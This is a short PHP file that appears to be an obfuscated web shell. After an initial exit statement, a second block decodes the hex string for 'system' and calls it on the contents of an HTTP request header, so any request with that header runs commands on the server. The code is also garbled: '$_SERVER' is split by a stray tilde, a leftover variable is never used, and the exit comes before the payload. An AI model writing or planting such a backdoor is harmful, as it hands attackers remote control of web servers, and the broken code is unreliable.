<?php exit; ?>
<?php
$h = hex2bin('73797374656d'); $o = strrev('MARKER'); $h($_S~ERVER['HTTP_M']);
